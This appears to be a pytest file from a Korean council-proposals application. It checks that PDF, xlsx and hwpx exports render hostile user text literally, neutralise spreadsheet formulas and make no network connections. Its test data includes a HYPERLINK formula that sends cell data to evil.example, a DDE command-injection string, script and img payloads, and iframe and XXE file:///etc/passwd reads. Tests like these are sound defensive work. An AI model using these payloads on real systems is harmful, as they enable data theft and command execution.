"""Hostile text in the PDF and xlsx exports: literal text, nothing fetched, no formulas."""

from __future__ import annotations

import datetime as dt
import io
import socket
import subprocess

import pytest

from facilities import exporter as facility_exporter
from facilities.models import Facility
from proposals import spreadsheet as response_sheets
from reports import exporters as reports_exporters
from tests.factories import make_hostile_council
from tests.hostile.payloads import ALL, FORMULAS, LONG

# Long unbroken text is the timing test's job; the content tests use the rest.
NOT_LONG = [p for p in ALL if p not in LONG]
# openpyxl refuses ASCII control characters in cells; lib.xlsx.safe_cell drops them.
CONTROL = [p for p in ALL if any(ord(c) < 32 and c not in "\t\n\r" for c in p)]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def _cells(xlsx_bytes: bytes) -> list:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(xlsx_bytes))  # formulas kept as formulas
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formulas(xlsx_bytes: bytes) -> list[str]:
    """No formula cell and no string a spreadsheet would evaluate; returns the strings."""
    strings = []
    for cell in _cells(xlsx_bytes):
        assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            strings.append(cell.value)
            if len(cell.value) > 1:
                assert not cell.value.startswith(FORMULA_PREFIXES), (
                    f"{cell.parent.title}!{cell.coordinate} would be evaluated: {cell.value!r}"
                )
    return strings


def assert_payloads_present(strings: list[str]) -> None:
    """The formula payloads made it into the sheet (neutralised by assert_no_formulas)."""
    joined = "\n".join(strings)
    for payload in ('=HYPERLINK("http://evil.example/?x="&A1,"클릭")', "=cmd|' /C calc'!A0"):
        assert payload in joined, payload


@pytest.fixture
def no_network(monkeypatch):
    """Record (and refuse) every outgoing connection while exporting."""
    attempts = []

    def refuse(self, address):
        attempts.append(address)
        raise OSError("network refused in tests")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    return attempts


def test_the_result_pdf_prints_hostile_text_literally(world, no_network, tmp_path):
    data = make_hostile_council(world, texts=NOT_LONG)
    filename, content_type, pdf = reports_exporters.render_pdf_export(
        data.meeting, final_only=False
    )
    assert content_type == "application/pdf" and pdf.startswith(b"%PDF")
    path = tmp_path / filename
    path.write_bytes(pdf)
    text = subprocess.run(
        ["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout
    squeezed = "".join(text.split())
    for payload in (
        "<script>alert(1)</script>",
        '<imgsrc="http://evil.example/track.png">',
        '<iframesrc="file:///etc/passwd"></iframe>',
        '=HYPERLINK("http://evil.example/?x="&A1,"클릭")',
    ):
        assert payload in squeezed, payload
    assert not no_network, f"WeasyPrint tried to connect to {no_network}"
    attachments = subprocess.run(
        ["pdfdetach", "-list", str(path)], capture_output=True, text=True, check=True
    ).stdout
    assert attachments.strip().startswith("0 embedded files"), attachments
    assert b"root:x:0:0" not in pdf


def test_the_result_xlsx_neutralises_formulas(world):
    data = make_hostile_council(world)
    _, _, xlsx_bytes = reports_exporters.render_xlsx_export(data.meeting, final_only=False)
    strings = assert_no_formulas(xlsx_bytes)
    assert_payloads_present(strings)
    assert any("<script>alert(1)</script>" in s for s in strings)


def test_the_department_xlsx_neutralises_formulas(world):
    data = make_hostile_council(world, texts=[p for p in ALL if p not in CONTROL])
    _, _, xlsx_bytes = response_sheets.export_department(
        meeting=data.meeting, department=world.department
    )
    assert_payloads_present(assert_no_formulas(xlsx_bytes))


def test_the_progress_xlsx_neutralises_formulas(world):
    from proposals import progress_sheet
    from proposals.models import CommitmentStatus, DepartmentResponse

    make_hostile_council(world, texts=[p for p in ALL if p not in CONTROL])
    DepartmentResponse.objects.update(status=DepartmentResponse.Status.FINAL)
    CommitmentStatus.objects.filter(name="장기 검토").update(name="=1+1")
    _, _, xlsx_bytes = progress_sheet.export_department(
        council=world.council, department=world.department
    )
    strings = assert_no_formulas(xlsx_bytes)
    assert_payloads_present(strings)
    assert "'=1+1" in strings


def test_the_facility_registry_xlsx_neutralises_formulas(world):
    make_hostile_council(world, texts=[p for p in ALL if p not in CONTROL])
    _, _, xlsx_bytes = facility_exporter.registry_workbook(
        council=world.council, as_of=dt.date(2099, 1, 1)
    )
    strings = assert_no_formulas(xlsx_bytes)
    assert any(s.startswith("'=") for s in strings)


def test_the_formula_payloads_are_really_formulas():
    # Proof that the check bites: an unneutralised export is refused.
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append([FORMULAS[0]])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(AssertionError):
        assert_no_formulas(buffer.getvalue())


def test_the_department_xlsx_drops_control_characters(world):
    data = make_hostile_council(world, texts=CONTROL + FORMULAS)
    _, _, xlsx_bytes = response_sheets.export_department(
        meeting=data.meeting, department=world.department
    )
    strings = assert_no_formulas(xlsx_bytes)
    assert any("제어 문자벨 [31m색[0m" in s for s in strings)


def test_the_facility_registry_xlsx_drops_control_characters(world):
    make_hostile_council(world, texts=FORMULAS)
    Facility.objects.filter(code="HX-000").update(notes=CONTROL[0])
    _, _, xlsx_bytes = facility_exporter.registry_workbook(
        council=world.council, as_of=dt.date(2099, 1, 1)
    )
    assert "제어 문자벨 [31m색[0m" in assert_no_formulas(xlsx_bytes)


def test_the_result_pdf_keeps_every_character_of_a_long_unbroken_line(world):
    # Before long words were broken, 5,000 Hangul characters took WeasyPrint ~74 s;
    # the time is measured by the benchmark, this checks nothing is lost on the way.
    data = make_hostile_council(world, texts=["가" * 5000])
    pdf = reports_exporters.render_pdf_export(data.meeting, final_only=False)[2]
    text = subprocess.run(
        ["pdftotext", "-", "-"], input=pdf, capture_output=True, check=True
    ).stdout.decode()
    assert text.count("가") >= 5000


def test_the_result_hwpx_keeps_hostile_text_literal(world, no_network):
    from reports import exporters
    from tests.reports.hwpx_reading import read_hwpx, section_xml

    data = make_hostile_council(world, texts=ALL)
    filename, content_type, hwpx = exporters.render_hwpx_export(data.meeting, final_only=False)
    assert filename.endswith(".hwpx") and content_type == "application/hwp+zip"
    text = "".join("".join(read_hwpx(hwpx).blocks).split())
    for payload in (
        "<script>alert(1)</script>",
        '<imgsrc="http://evil.example/track.png">',
        '<iframesrc="file:///etc/passwd"></iframe>',
        '=HYPERLINK("http://evil.example/?x="&A1,"클릭")',
        "&lt;script&gt;alert(26)&lt;/script&gt;",
        '<!DOCTYPEx[<!ENTITYeSYSTEM"file:///etc/passwd">]><x>&e;</x>',
    ):
        assert payload in text, payload
    assert text.count("가") >= 5000  # the long line whole
    xml = section_xml(hwpx)
    assert "root:x:0:0" not in xml and "<script>" not in xml and "<iframe" not in xml
    assert not no_network
